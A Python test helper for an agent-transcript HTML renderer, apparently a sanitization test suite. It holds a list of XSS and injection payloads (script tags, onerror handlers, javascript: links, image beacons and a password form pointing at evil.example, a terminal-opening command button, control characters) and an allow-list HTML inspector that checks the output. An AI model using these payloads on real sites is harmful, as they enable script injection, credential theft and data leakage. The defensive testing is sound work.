"""What the tests of the transcript share: a teller of events, hostile text, and an inspector of HTML."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

from nbagent import events as ev


class Teller:
    """Makes the events of one stream, numbered and timed."""

    def __init__(self, stream: str = "t", agent: str = "a") -> None:
        self.stream, self.agent, self.seq, self.now = stream, agent, 0, 100.0

    def __call__(self, cls: type[ev.Event], **fields: Any) -> Any:
        self.seq += 1
        self.now += 0.25
        about = {"session_id": "s", "agent_name": self.agent, "stream_id": self.stream}
        return cls(**about, seq=self.seq, timestamp=self.now, **fields)


HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<div style="background:url(//evil.example/a.png);position:fixed" id="main" name="cookie">x</div>',
    '<button data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">x</button>',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></table></mtext></math>',
    "<style>@import url(//evil.example/a.css);</style><link rel=stylesheet href=//evil.example/a.css>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    '<base href="//evil.example"><meta http-equiv=refresh content="0;url=//evil.example">',
    "</pre></details></div></style><script>alert(1)</script>",
    "[x](javascript:alert(1)) [y](java&#115;cript:alert(1)) [z](data:text/html,<script>alert(1)</script>)",
    "[x](JaVaScRiPt:alert(1)) [y](vbscript:x) [z](\x01javascript:alert(1)) [w](<javascript:alert(1)>)",
    "![a](https://evil.example/leak.png?s=1) ![b](//evil.example/b.png) ![c](data:image/svg+xml,<svg onload=alert(1)>)",
    "![a][ref] [b][bad]\n\n[ref]: //evil.example/r.png\n[bad]: javascript:alert(1)",
    "[![a](https://evil.example/in.png)](https://evil.example)",
    "<https://evil.example/auto> <javascript:alert(1)>",
    "```html\n<script>alert(1)</script>\n```\n`<img src=x onerror=alert(1)>`",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "| <img src=x onerror=alert(1)> |\n|---|\n| ![a](//evil.example/t.png) |",
    "safe \u202egnp.exe\u202c \x1b[2J\x1b]0;title\x07\x1b[31mred\x9b0m \x00\x07end",
)
"""Text that tries to run a script, to load something, to lead somewhere, or to move the cursor."""

_TAG_NAMES = """
    a b blockquote br button caption code col colgroup dd del details div dl dt em h1 h2 h3 h4 h5 h6 hr i img ins kbd li
    mark ol p pre q s samp small span strong style sub summary sup table tbody td tfoot th thead tr u ul var
"""
_ATTRIBUTE_NAMES = "href title rel target class align colspan rowspan scope start dir open src alt tabindex"
_TAGS, _ATTRIBUTES = set(_TAG_NAMES.split()), set(_ATTRIBUTE_NAMES.split())


class Inspector(HTMLParser):
    """Finds whatever in an HTML fragment could act, load or lead astray."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.styles = 0
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _TAGS:
            self.faults.append(f"<{tag}>")
        self.styles += tag == "style"
        for name, value in attrs:
            self._attribute(tag, name, value or "")

    def _attribute(self, tag: str, name: str, value: str) -> None:
        if name not in _ATTRIBUTES:
            self.faults.append(f"<{tag} {name}>")
        if name == "href" and urlsplit(value).scheme not in ("http", "https", "mailto"):
            self.faults.append(f"href={value}")
        if name == "src" and not value.startswith(("data:image/png;base64,", "data:image/jpeg;base64,")):
            self.faults.append(f"src={value}")
        if name == "target" and value != "_blank":
            self.faults.append(f"target={value}")

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"<!--{data}-->")


def inspect(fragment: str) -> Inspector:
    """Parse a fragment; its `faults` say what is wrong with it."""
    inspector = Inspector()
    inspector.feed(fragment)
    inspector.close()
    for character in fragment:
        if character in "\x00\x07\x1b\x9b\u202e":
            inspector.faults.append(repr(character))
    return inspector


def hostile_story(text: str) -> list[Any]:
    """A run that says `text` in every place that a run can."""
    tell, child = Teller(agent=text), Teller("t2", agent=text)
    pieces = [text[start : start + 3] for start in range(0, len(text), 3)]
    bundle = {"text/html": text, "text/plain": text, "image/svg+xml": text, "application/javascript": text}
    return [
        tell(ev.StreamStarted),
        tell(ev.AgentInfo, model=text),
        tell(ev.UserMessage, content=text),
        *(tell(ev.AgentChoiceReasoning, content=piece) for piece in pieces),
        *(tell(ev.AgentChoice, content=piece) for piece in pieces),
        tell(ev.ToolCallStarted, tool_call_id="c1", name=text, arguments={text: text, "long": text * 20}, toolset=text),
        tell(ev.ToolCallOutput, tool_call_id="c1", content=text),
        tell(ev.ToolCallOutput, tool_call_id="c1", data=bundle),
        tell(ev.ToolCallOutput, tool_call_id="c1", data={"text/markdown": text}),
        tell(ev.ToolCallOutput, tool_call_id="c1", data={"image/png": text, "text/plain": text}),
        tell(ev.ToolCallOutput, tool_call_id="c1", data={text: text}),
        tell(ev.ElicitationRequest, id="q1", message=text, source=text, tool_call_id="c1"),
        tell(ev.ElicitationResolved, id="q1", action="decline", note=text),
        tell(
            ev.ToolCallResponse,
            tool_call_id="c1",
            name=text,
            response=text,
            is_error=True,
            state="failed",
            content=({"type": "image", "mimeType": text, "data": text}, {"type": text}, {"type": "text", "text": text}),
        ),
        tell(ev.ToolCallStarted, tool_call_id="c2", name="f", arguments=text),
        tell(ev.SubSessionStarted, child_stream_id="t2", child_session_id="s2", child_agent=text),
        child(ev.UserMessage, content=text),
        child(ev.AgentChoice, content=text),
        child(ev.StreamStopped, reason="error", message=text),
        tell(ev.MCPInitStarted, server=text),
        tell(ev.MCPInitFinished, server=text, duration=1.0, error=text),
        tell(ev.HookFinished, point=text, hook=text, duration=1.0, error=text),
        tell(ev.HookBlocked, point=text, hook=text, reason=text),
        tell(ev.AgentSwitching, to_agent=text),
        tell(ev.ModelFallback, from_model=text, to_model=text, error=text),
        tell(ev.Warning, message=text),
        tell(ev.Error, code=text, message=text),
        tell(ev.StreamStopped, reason="error", message=text),
    ]
